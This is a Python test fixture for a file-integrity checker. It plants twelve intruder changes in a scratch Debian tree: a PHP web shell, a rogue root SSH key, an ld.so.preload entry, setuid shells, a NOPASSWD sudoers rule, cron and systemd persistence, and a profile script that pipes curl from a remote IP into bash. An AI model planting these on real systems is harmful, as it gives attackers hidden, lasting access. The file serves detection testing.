"""A Debian tree for tests: baseline with paths below its root, twelve planted changes, what the product says of them."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

from responder.analysis.explain import Explanation
from responder.analysis.explain_check import explain_changes
from responder.integrity import policy as policies
from responder.integrity.compare import Change
from responder.integrity.database import Baseline
from responder.integrity.runs import check, create

POLICY = Path(__file__).resolve().parents[3] / "resources" / "policies" / "linux.toml"

WEB_SHELL = b'<?php if(isset($_REQUEST["c"])){ @system($_REQUEST["c"]); } ?>\n'
KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEjWJ2YQmNlBHxdQ8bKfZ0ULnYyZ5m3cT0vZB8yN1Qx9 deploy@build\n"


def policy_below(root: Path) -> policies.Policy:
    """The product's Linux policy with every start and stop point below a root; accounts and listeners left out."""
    text = POLICY.read_text("utf-8").replace('"users:", ', "").replace('"/', f'"{root}/')
    start = text.index('[[rule]]\nname = "Listening ports"')
    text = text[:start] + text[text.index("[[rule]]", start + 5) :]
    return policies.parse(text, "below")


def make_baseline(root: Path, target: Path) -> None:
    create(policy_below(root), target, root=root)


def differences(root: Path, baseline: Path, scratch: Path) -> list[Change]:
    """Changes since the baseline, paths within the tree."""
    opened = Baseline(baseline)
    try:
        result = check(opened, scratch)
    finally:
        opened.close()
    prefix = len(os.fsencode(root))
    assert not result.unread
    return [replace(c, path=c.path[prefix:]) for c in result.changes]


def explanations(
    root: Path, changes: list[Change], baseline: Path, since: int | None = None
) -> list[Explanation | None]:
    opened = Baseline(baseline)
    owners = str(opened.meta.get("owners", ""))
    opened.close()
    return list(explain_changes(changes, owners, root, since).reasons)


def _write(root: Path, path: str, data: bytes, mode: int = 0o644) -> None:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    target.chmod(mode)


def plant(root: Path) -> list[str]:
    """Twelve changes an intruder would make, one object each."""
    shell = (root / "usr/bin/dash").read_bytes()
    with (root / "usr/sbin/cron").open("ab") as program:
        program.write(b"\0implant")
    _write(root, "/usr/lib/x86_64-linux-gnu/libproc_hide.so", shell)
    _write(root, "/etc/ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libproc_hide.so\n")
    _write(root, "/usr/bin/fwupdhelper", shell, 0o4755)
    bash = root / "usr/bin/bash"
    bash.chmod(0o4755)
    with (root / "root/.ssh/authorized_keys").open("ab") as keys:
        keys.write(KEY)
    _write(root, "/etc/cron.d/man-cache", b"*/10 * * * * root /var/tmp/.cache/up >/dev/null 2>&1\n")
    _write(
        root,
        "/etc/systemd/system/netlink-agent.service",
        b"[Unit]\nDescription=Netlink agent\n[Service]\nExecStart=/usr/bin/fwupdhelper -d\n[Install]\nWantedBy=multi-user.target\n",
    )
    _write(root, "/var/www/html/about.php", WEB_SHELL)
    _write(root, "/etc/sudoers.d/90-deploy", b"games ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    _write(root, "/var/tmp/.cache", shell, 0o755)
    _write(root, "/etc/profile.d/lang.sh", b"curl -s http://203.0.113.7/l | bash >/dev/null 2>&1 &\n")
    return [
        "/usr/sbin/cron", "/usr/lib/x86_64-linux-gnu/libproc_hide.so", "/etc/ld.so.preload", "/usr/bin/fwupdhelper",
        "/usr/bin/bash", "/root/.ssh/authorized_keys", "/etc/cron.d/man-cache",
        "/etc/systemd/system/netlink-agent.service", "/var/www/html/about.php", "/etc/sudoers.d/90-deploy",
        "/var/tmp/.cache", "/etc/profile.d/lang.sh",
    ]  # fmt: skip
